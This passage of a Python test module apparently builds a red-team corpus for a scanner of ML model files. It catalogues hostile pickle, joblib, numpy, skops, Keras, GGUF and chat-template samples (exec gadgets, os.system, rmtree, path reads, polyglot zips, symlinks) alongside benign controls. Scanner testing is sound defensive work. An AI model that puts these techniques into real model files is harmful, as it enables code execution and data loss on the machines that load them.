    (``torch.load('model/pytorch_model.bin')`` follows the link)."""
    put(folder, "elsewhere/blob", rt.torch_zip(evil(canary)))
    model = folder / "model"
    model.mkdir(parents=True)
    (model / "pytorch_model.bin").symlink_to("../elsewhere/blob")
    (model / "config.json").write_text('{"model_type": "bert"}')
    return model


# -- the hostile set -------------------------------------------------------------------------------

Builder = Callable[[Path], bytes]
_FILES: list[tuple[str, str, str, str, str, Builder]] = [
    # id, class, oracle, technique, file name, builder
    ("pickle-scipy-rv-parse-template", "library gadget", "pickle",
     "scipy norm_gen rebuilt by NEWOBJ + BUILD; rv_generic.__setstate__ exec()s "
     "_parse_arg_template", "dist.pkl", _scipy_norm_gen),
    ("pickle-scipy-frozen-wraps-rv", "library gadget", "pickle",
     "allowlisted rv_continuous_frozen holding a uniform_gen whose __setstate__ exec()s its "
     "template", "frozen.pkl", _scipy_frozen_wrapper),
    ("pickle-numpy-datasource-del-rmtree", "library gadget", "pickle-deletes-dir",
     "numpy.lib._datasource.DataSource rebuilt by NEWOBJ + BUILD: __del__ rmtree()s _destpath",
     "datasource.pkl", _numpy_datasource_rmtree),
    ("pickle-fsspec-local-opener-setstate", "library gadget", "pickle-reads-path",
     "fsspec LocalFileOpener rebuilt by NEWOBJ + BUILD: __setstate__ opens state['path'] r+",
     "opener.pkl", _fsspec_opener),
    ("pickle-reexport-xgboost-sklearn-booster", "re-export", "pickle-reads-path",
     "xgboost.sklearn.Booster(None, None, path) called: reads any file", "xgb.pkl",
     _xgb_reexport),
    ("pickle-reexport-lightgbm-sklearn-booster", "re-export", "pickle-reads-path",
     "lightgbm.sklearn.Booster(None, None, path) called: reads any file", "lgbm.pkl",
     _lgbm_reexport),
    ("pickle-p0-builtin-eval", "pickle opcodes", "pickle",
     "protocol 0 GLOBAL __builtin__.exec (fix_imports renames it to builtins)", "p0.pkl",
     lambda c: _p0_call("__builtin__", "exec", rt.pysrc(c))),
    ("pickle-p0-commands-getoutput", "pickle opcodes", "pickle",
     "protocol 0 GLOBAL commands.getoutput (fix_imports: subprocess.getoutput)", "p0c.pkl",
     lambda c: _p0_call("commands", "getoutput", shell(c))),
    ("pickle-p0-memo-key-underscores", "pickle opcodes", "pickle",
     "PUT 1_0 / GET ' 10': memo keys spelled with an underscore and a blank", "memo.pkl",
     _p0_memo_underscore),
    ("pickle-proto-4-then-2-fix-imports", "pickle opcodes", "pickle",
     "PROTO 4, then PROTO 2 again, then commands.getoutput (renamed under protocol 2)",
     "switch.pkl", _proto_switch),
    ("pickle-nested-torch-load-from-bytes-legacy", "nested pickle", "pickle",
     "torch.storage._load_from_bytes of a legacy stream whose third pickle runs the payload",
     "nested.pkl", _nested_torch_bytes),
    ("joblib-inline-array-dtype-bytes", "joblib array", "joblib",
     "NumpyArrayWrapper dtype numpy.dtype(b'<f8') (a bytes spelling numpy accepts), then "
     "os.system after the array bytes", "bytes_dtype.joblib",
     lambda c: _joblib_inline_array(rt.call(rt.g("numpy", "dtype"), b"C\x03<f8"), c)),
    ("joblib-inline-array-dtype-struct-list", "joblib array", "joblib",
     "NumpyArrayWrapper dtype numpy.dtype([('a', '<f8')]) (a field list), then os.system after "
     "the array bytes", "struct_dtype.joblib",
     lambda c: _joblib_inline_array(rt.call(rt.g("numpy", "dtype"), b"]" + rt.tup(
         rt.s("a"), rt.s("<f8")) + b"a"), c)),
    ("joblib-inline-array-shape-list", "joblib array", "joblib",
     "NumpyArrayWrapper shape [2] (a list), then os.system after the array bytes",
     "list_shape.joblib", lambda c: _joblib_shape(b"]" + rt.i(2) + b"a", c)),
    ("joblib-inline-array-shape-numpy-int", "joblib array", "joblib",
     "NumpyArrayWrapper shape (numpy.int64(2),), then os.system after the array bytes",
     "npint_shape.joblib",
     lambda c: _joblib_shape(rt.tup(rt.call(rt.g("numpy", "int64"), rt.i(2))), c)),
    ("joblib-inline-array-slot-state", "joblib array", "joblib",
     "NumpyArrayWrapper BUILD with (None, state): set as slot state by setattr",
     "slot_state.joblib", _joblib_slot_state),
    ("joblib-inline-array-duplicate-shape", "joblib array", "joblib",
     "NumpyArrayWrapper state with 'shape' set twice, (100,) then (2,): the call sits where the "
     "first shape's bytes would be", "dup_shape.joblib", _joblib_duplicate_shape),
    ("pickle-nested-load-from-bytes-newtrue-lead", "nested pickle", "pickle",
     "torch.storage._load_from_bytes of bytes starting NEWTRUE, POP (no PROTO)",
     "nested_lead.pkl", _nested_torch_bytes_newtrue),
    ("hdf5-user-block-pickle", "polyglot", "pickle",
     "HDF5 file whose user block starts with a pickle (pickle.load reads byte 0)", "ub.h5",
     _pickle_in_hdf5_user_block),
    ("npy-py2-long-shape-v1", "numpy header", "numpy",
     "npy 1.0 header with a Python 2 long '(1L,)' (numpy filters it) over an object array",
     "py2.npy", _npy_py2_long),
    ("npy-py2-long-shape-v2", "numpy header", "numpy",
     "npy 2.0 header with '(1L,)' over an object array", "py2v2.npy",
     lambda c: _npy_py2_long(c, 2)),
    ("npy-descr-tuple-subarray", "numpy header", "numpy",
     "descr ('|O', (1,)): a sub-array of objects", "tuple.npy", _npy_descr_tuple),
    ("npz-bzip2-member", "numpy archive", "numpy",
     ".npz whose object-array member is bzip2-compressed (zipfile method 12)", "bz.npz",
     lambda c: _npz_method(zipfile.ZIP_BZIP2, c)),
    ("npz-lzma-member", "numpy archive", "numpy",
     ".npz whose object-array member is lzma-compressed (zipfile method 14)", "lz.npz",
     lambda c: _npz_method(zipfile.ZIP_LZMA, c)),
    ("joblib-bz2-empty-stream-first", "joblib compressor", "joblib",
     "empty bz2 stream, then the pickle in a second one", "two_bz2.joblib", _bz2_two_streams),
    ("joblib-gzip-all-header-fields", "joblib compressor", "joblib",
     "gzip member with FHCRC, FEXTRA, FNAME and FCOMMENT", "fields.joblib",
     _gzip_all_header_fields),
    ("gz-empty-member-first", "compressed stream", "pandas-pickle",
     "empty gzip member, then the pickle in a second member (pandas.read_pickle('x.pkl.gz'))",
     "two.pkl.gz", _gzip_two_members),
    ("pickle-binstring-stack-global", "pickle opcodes", "pickle",
     "protocol 1 BINSTRING/SHORT_BINSTRING names fed to STACK_GLOBAL (no opcode is gated by "
     "protocol)", "p1.pkl", _binstring_stack_global),
    ("gz-zero-padding-between-members", "compressed stream", "pandas-pickle",
     "empty gzip member, 4 KiB of NULs, then the pickle (pandas.read_pickle('x.pkl.gz'))",
     "model.pkl.gz", _gzip_zero_padded),
    ("gz-pickle-split-across-members", "compressed stream", "pandas-pickle",
     "pickle split across two gzip members (pandas.read_pickle('x.pkl.gz'))", "split.pkl.gz",
     _gzip_split),
    ("xz-x86-bcj-filter", "compressed stream", "pandas-pickle",
     ".xz with an x86 BCJ + LZMA2 filter chain (pandas.read_pickle('x.pkl.xz'))", "bcj.pkl.xz",
     _xz_x86_filter),
    ("zip-bzip2-member-pandas", "archive", "pandas-pickle",
     "one-member zip with a bzip2-compressed pickle (pandas.read_pickle('x.zip'))",
     "bz2member.zip", lambda c: _zip_member_method(zipfile.ZIP_BZIP2, c)),
    ("zip-lzma-member-pandas", "archive", "pandas-pickle",
     "one-member zip with an lzma-compressed pickle (pandas.read_pickle('x.zip'))",
     "lzmamember.zip", lambda c: _zip_member_method(zipfile.ZIP_LZMA, c)),
    ("tar-gz-pandas", "archive", "pandas-pickle",
     "one-member .tar.gz of a pickle (pandas.read_pickle('x.tar.gz'))", "model.tar.gz", _tar_gz),
    ("safetensors-tensor-holds-zip", "polyglot", "pandas-pickle",
     "valid safetensors whose last U8 tensor is a zip of a pickle (read as 'x.zip')",
     "weights.zip", _safetensors_holding_zip),
    ("npy-data-holds-zip", "polyglot", "pandas-pickle",
     "uint8 .npy whose array data is a zip of a pickle (read as 'x.zip')", "array.zip",
     _npy_holding_zip),
    ("hdf5-dataset-holds-zip", "polyglot", "pandas-pickle",
     "HDF5 file whose last dataset is a zip of a pickle (read as 'x.zip')", "store.zip",
     _hdf5_holding_zip),
    ("pickle-then-zip", "polyglot", "pandas-pickle",
     "benign pickle with a zip of a hostile pickle appended (read as 'x.zip')", "ckpt.zip",
     _pickle_then_zip),
    ("model-card-then-zip", "polyglot", "pandas-pickle",
     "markdown model card with a zip of a pickle appended (read as 'x.zip')", "card.zip",
     _text_then_zip),
    ("keras-torch-module-wrapper-b64", "keras config", "cite:keras-torch-module-wrapper",
     "TorchModuleWrapper config 'module': base64 torch.save pickle (torch.load "
     "weights_only=False in from_config)", "tmw.keras", _torch_module_wrapper),
    ("keras-h5-torch-module-wrapper-b64", "keras config", "cite:keras-torch-module-wrapper",
     "legacy .h5 whose model_config has a TorchModuleWrapper with a base64 torch pickle",
     "tmw.h5", _torch_module_wrapper_h5),
    ("hdf5-pytables-attr-nul-padded", "hdf5 attribute", "cite:pytables-attrs",
     "pandas table group attribute 'non_index_axes' = pickle + NUL padding (S256)", "df.h5",
     _pytables_attr_nul_padded),
    ("skops-scipy-rv-object-node", "skops", "skops",
     "skops ObjectNode of scipy norm_gen: __setstate__ exec()s _parse_arg_template",
     "rv.skops", _skops_rv_object),
    ("skops-memmap-constructor-node", "skops", "skops",
     "skops ConstructorFromReduceNode numpy.memmap(path, 'uint8', 'w+', 0, (8,))",
     "memmap.skops", _skops_memmap_reduce),
    ("skops-booster-constructor-node", "skops", "skops-reads-path",
     "skops ConstructorFromReduceNode xgboost.core.Booster(None, None, path): reads the file",
     "booster.skops", _skops_booster_reduce),
]

_HF_TEMPLATE_KEYS = ("namespace-attr", "namespace-assign", "percent-format", "macro-return",
                     "dict-loop", "dictsort-loop", "split-index", "partition", "tuple-index",
                     "call-block")
_GGUF_TEMPLATE_KEYS = ("namespace-assign", "percent-format", "dict-loop")


def _folder_cases() -> list[tuple[str, str, str, str, Callable[[Path, Path], Path]]]:
    out: list[tuple[str, str, str, str, Callable[[Path, Path], Path]]] = []
    for key in _GGUF_TEMPLATE_KEYS:
        def gguf_build(folder: Path, canary: Path, key: str = key) -> Path:
            return _gguf_template(key, folder, canary)
        out.append((f"gguf-template-{key}", "chat template", "jinja-sandbox",
                    f"GGUF chat template: {_TEMPLATES[key][1]}", gguf_build))
    for sm_key, (tech, nodes) in _SAVEDMODEL.items():
        def sm_build(folder: Path, canary: Path, key: str = sm_key,
                     nodes: Callable[[], list[bytes]] = nodes) -> Path:
            return _saved_model_with(folder, key, nodes())
        out.append((f"savedmodel-{sm_key}", "savedmodel", f"cite:tf-{sm_key}", tech, sm_build))
    out.append(("gguf-tensor-holds-zip", "polyglot", "pandas-pickle",
                "GGUF whose last tensor is a zip of a pickle (read as 'x.zip')",
                _gguf_holding_zip))
    out.append(("onnx-constant-node-external-data", "onnx", "cite:onnxruntime-external-data",
                "Constant node tensor whose external data file is a link out of the model folder",
                _onnx_constant_external))
    out.append(("joblib-compat-wrapper-filename-outside", "joblib array", "joblib",
                "joblib NDArrayWrapper whose filename '../elsewhere/payload.npy' leaves the model "
                "folder (np.load(allow_pickle=True) of an object array there)",
                _joblib_compat_wrapper_outside))
    out.append(("symlink-weights-outside-folder", "symlink", "torch-full",
                "pytorch_model.bin is a link to ../elsewhere/blob (a hostile checkpoint)",
                _symlinked_weights))
    return out


def _hostile() -> list[tuple[str, str, str, str, Callable[[Path, Path], Path]]]:
    rows: list[tuple[str, str, str, str, Callable[[Path, Path], Path]]] = []
    for id_, cls, oracle, tech, rel, fn in _FILES:
        def build(folder: Path, canary: Path, rel: str = rel, fn: Builder = fn) -> Path:
            return put(folder, rel, fn(canary))
        rows.append((id_, cls, oracle, tech, build))
    for key in _HF_TEMPLATE_KEYS:
        def hf_build(folder: Path, canary: Path, key: str = key) -> Path:
            return put(folder, f"{key}/tokenizer_config.json", _template_file(key, canary))
        rows.append((f"hf-template-{key}", "chat template", "jinja-sandbox",
                     f"tokenizer_config.json chat template: {_TEMPLATES[key][1]}", hf_build))
    return rows + _folder_cases()


HOSTILE_CLASSES: dict[str, str] = {}
"""Sample id → threat class (for ROUND5.md)."""

for _id, _cls, _oracle, _tech, _build in _hostile():
    ORACLES[f"r5-{_id}"] = _oracle
    HOSTILE_CLASSES[f"r5-{_id}"] = _cls


# -- benign: real files written by the libraries ------------------------------------------------

def _sk_pipeline() -> object:
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.random.default_rng(0).normal(size=(40, 3))
    y = (x[:, 0] > 0).astype(int)
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)


def _joblib(obj: object, **kw: object) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, **kw)
    return buf.getvalue()


def _xy() -> tuple[object, object]:
    import numpy as np

    x = np.random.default_rng(1).normal(size=(60, 4))
    return x, (x[:, 0] + x[:, 1] > 0).astype(int)


def _b_sklearn_joblib(_: Path) -> bytes:
    return _joblib(_sk_pipeline())


def _b_sklearn_joblib_zlib(_: Path) -> bytes:
    return _joblib(_sk_pipeline(), compress=3)


def _b_sklearn_forest_gzip(_: Path) -> bytes:
    from sklearn.ensemble import RandomForestClassifier

    x, y = _xy()
    return _joblib(RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
                   compress=("gzip", 3))


def _b_sklearn_hgb_bz2(_: Path) -> bytes:
    from sklearn.ensemble import HistGradientBoostingClassifier

    x, y = _xy()
    return _joblib(HistGradientBoostingClassifier(max_iter=5).fit(x, y), compress=("bz2", 3))


def _b_randomized_search_scipy(_: Path) -> bytes:
    """A fitted RandomizedSearchCV whose ``param_distributions`` hold frozen scipy
    distributions (``scipy.stats.loguniform``) — pickled with the estimator."""
    from scipy.stats import loguniform, uniform
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import RandomizedSearchCV

    x, y = _xy()
    search = RandomizedSearchCV(LogisticRegression(), {"C": loguniform(1e-3, 1e2),
                                                       "tol": uniform(1e-4, 1e-3)},
                                n_iter=2, cv=2, random_state=0).fit(x, y)
    return pickle.dumps(search, protocol=4)


def _b_xgboost_pickle(_: Path) -> bytes:
    from xgboost import XGBClassifier

    x, y = _xy()
    return pickle.dumps(XGBClassifier(n_estimators=3, max_depth=2).fit(x, y), protocol=4)


def _b_xgboost_ubj(folder: Path, _: Path) -> Path:
    from xgboost import XGBClassifier

    x, y = _xy()
    path = folder / "model.ubj"
    folder.mkdir(parents=True, exist_ok=True)
    XGBClassifier(n_estimators=3, max_depth=2).fit(x, y).save_model(str(path))
    return path


def _b_lightgbm_pickle(_: Path) -> bytes:
    from lightgbm import LGBMClassifier

    x, y = _xy()
    return pickle.dumps(LGBMClassifier(n_estimators=3, verbose=-1).fit(x, y), protocol=4)


def _b_lightgbm_txt(folder: Path, _: Path) -> Path:
    from lightgbm import LGBMClassifier

    x, y = _xy()
    path = folder / "model.txt"
    folder.mkdir(parents=True, exist_ok=True)
    LGBMClassifier(n_estimators=3, verbose=-1).fit(x, y).booster_.save_model(str(path))
    return path


def _torch_save(obj: object, **kw: object) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)  # type: ignore[arg-type]
    return buf.getvalue()


def _b_torch_state_dict(_: Path) -> bytes:
    import torch

    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.BatchNorm1d(8),
                              torch.nn.Linear(8, 2))
    opt = torch.optim.AdamW(net.parameters())
    net(torch.ones(3, 4)).sum().backward()
    opt.step()
    return _torch_save({"model": net.state_dict(), "optimizer": opt.state_dict(), "epoch": 4})


def _b_torch_legacy(_: Path) -> bytes:
    import torch

    return _torch_save({"w": torch.arange(6.0).reshape(2, 3), "step": 7},
                       _use_new_zipfile_serialization=False)


def _b_numpy_npz(_: Path) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.savez_compressed(buf, w=np.arange(12.0).reshape(3, 4), labels=np.array(["a", "bb"]),
                        rec=np.zeros(2, dtype=[("x", "<i4"), ("y", "<f8", (2,))]))
    return buf.getvalue()


def _b_numpy_fortran(_: Path) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.asfortranarray(np.arange(6, dtype=np.float16).reshape(2, 3)))
    return buf.getvalue()


def _b_pandas_pickle_gz(_: Path) -> bytes:
    import pandas as pd

    frame = pd.DataFrame({"a": [1, 2, 3], "b": pd.Categorical(["x", "y", "x"]),
                          "t": pd.date_range("2024-01-01", periods=3, tz="UTC")})
    buf = io.BytesIO()
    frame.to_pickle(buf, compression="gzip")
    return buf.getvalue()


def _b_pandas_pickle_zip(_: Path) -> bytes:
    import pandas as pd

    buf = io.BytesIO()
    pd.Series([1.5, 2.5], index=["a", "b"], name="s").to_pickle(buf, compression="zip")
    return buf.getvalue()


def _b_onnx(_: Path) -> bytes:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), "w")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"]), helper.make_node("Relu", ["y"], ["z"])],
        "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("z", TensorProto.FLOAT, [1, 2])], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.checker.check_model(model)
    return bytes(model.SerializeToString())


def _b_onnx_external(folder: Path, _: Path) -> Path:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((64, 64), dtype=np.float32), "w")
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 64])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 64])],
                              [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    root = folder / "onnx_ext"
    root.mkdir(parents=True)
    onnx.save_model(model, str(root / "model.onnx"), save_as_external_data=True,
                    location="model.onnx.data", size_threshold=0)
    return root


def _b_h5py_attrs(_: Path) -> bytes:
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["description"] = "embedding table v3."
        f.attrs["created_by"] = np.bytes_(b"train.py.")
        grp = f.create_group("layers")
        grp.create_dataset("emb", data=np.ones((8, 4), dtype=np.float32), compression="gzip")
        grp.attrs["names"] = np.array([b"emb", b"proj"])
    return buf.getvalue()


def _b_safetensors(_: Path) -> bytes:
    import torch
    from safetensors.torch import save

    return save({"embed.weight": torch.ones(8, 4), "lm_head.bias": torch.zeros(8,
                                                                               dtype=torch.bfloat16)},
                metadata={"format": "pt"})


def _b_gguf(folder: Path, _: Path) -> Path:
    from tests.scan.redteam.cases_benign import TEMPLATES
    from tests.scan.redteam.cases_formats import gguf_file

    template = (TEMPLATES / "qwen25.jinja").read_text()
    return gguf_file(folder / "qwen.gguf", {"tokenizer.chat_template": template})


def _b_skops_pipeline(_: Path) -> bytes:
    import skops.io as sio
    from sklearn.ensemble import RandomForestClassifier

    x, y = _xy()
    return bytes(sio.dumps(RandomForestClassifier(n_estimators=2, random_state=0).fit(x, y)))


def _b_scipy_frozen_pickle(_: Path) -> bytes:
    from scipy.stats import norm

    return pickle.dumps({"prior": norm(0, 1)}, protocol=4)


BENIGN: list[tuple[str, str, str, Callable[[Path], bytes]]] = [
    ("sklearn-pipeline-joblib", "joblib.dump of a fitted StandardScaler + LogisticRegression",
     "pipe.joblib", _b_sklearn_joblib),
    ("sklearn-pipeline-joblib-zlib", "the same pipeline with compress=3 (zlib)", "pipe_z.joblib",
     _b_sklearn_joblib_zlib),
    ("sklearn-forest-joblib-gzip", "RandomForestClassifier, joblib compress=('gzip', 3)",
     "rf.joblib", _b_sklearn_forest_gzip),
    ("sklearn-hgb-joblib-bz2", "HistGradientBoostingClassifier, joblib compress=('bz2', 3)",
     "hgb.joblib", _b_sklearn_hgb_bz2),
    ("sklearn-randomized-search-scipy-dists", "fitted RandomizedSearchCV with loguniform/uniform "
     "param distributions (pickle protocol 4)", "search.pkl", _b_randomized_search_scipy),
    ("scipy-frozen-norm-pickle", "pickle of {'prior': scipy.stats.norm(0, 1)}", "prior.pkl",
     _b_scipy_frozen_pickle),
    ("xgboost-classifier-pickle", "pickle of a fitted XGBClassifier", "xgb.pkl",
     _b_xgboost_pickle),
    ("lightgbm-classifier-pickle", "pickle of a fitted LGBMClassifier", "lgbm.pkl",
     _b_lightgbm_pickle),
    ("torch-state-dict-optimizer", "torch.save of a state_dict and AdamW state", "ckpt.pt",
     _b_torch_state_dict),
    ("torch-legacy-stream", "torch.save(_use_new_zipfile_serialization=False)", "legacy.pt",
     _b_torch_legacy),
    ("numpy-savez-compressed", "np.savez_compressed with float, str and structured arrays",
     "arrays.npz", _b_numpy_npz),
    ("numpy-fortran-float16", "np.save of a Fortran-ordered float16 array", "f16.npy",
     _b_numpy_fortran),
    ("pandas-to-pickle-gzip", "DataFrame.to_pickle(compression='gzip') with categorical and tz "
     "columns", "frame.pkl.gz", _b_pandas_pickle_gz),
    ("pandas-to-pickle-zip", "Series.to_pickle(compression='zip')", "series.zip",
     _b_pandas_pickle_zip),
    ("onnx-matmul-relu", "onnx.helper MatMul + Relu model with an initializer", "mm.onnx",
     _b_onnx),
    ("h5py-attrs-ending-in-dot", "h5py file whose string attributes end in '.' (not pickles)",
     "emb.h5", _b_h5py_attrs),
    ("safetensors-torch-save", "safetensors.torch.save with metadata", "model.safetensors",
     _b_safetensors),
    ("skops-random-forest", "skops.io.dumps of a fitted RandomForestClassifier", "rf.skops",
     _b_skops_pipeline),
]

BENIGN_FOLDERS: list[tuple[str, str, Callable[[Path, Path], Path]]] = [
    ("xgboost-ubj", "XGBClassifier.save_model('model.ubj')", _b_xgboost_ubj),
    ("lightgbm-model-txt", "Booster.save_model('model.txt')", _b_lightgbm_txt),
    ("onnx-external-data", "onnx.save_model(save_as_external_data=True)", _b_onnx_external),
    ("gguf-qwen25-template", "GGUF (gguf.GGUFWriter) with the Qwen2.5 chat template", _b_gguf),
]


def round5_cases() -> list[Case]:
    out: list[Case] = []
    for id_, _cls, _oracle, tech, build in _hostile():
        out.append(Case(f"r5-{id_}", "malicious", tech, build, GAPS.get(f"r5-{id_}")))
    for id_, tech, rel, fn in BENIGN:
        def build(folder: Path, canary: Path, rel: str = rel,
                  fn: Callable[[Path], bytes] = fn) -> Path:
            return put(folder, rel, fn(canary))
        out.append(Case(f"benign-r5-{id_}", "benign", tech, build, GAPS.get(f"benign-r5-{id_}")))
    for id_, tech, folder_build in BENIGN_FOLDERS:
        out.append(Case(f"benign-r5-{id_}", "benign", tech, folder_build,
                        GAPS.get(f"benign-r5-{id_}")))
    return out
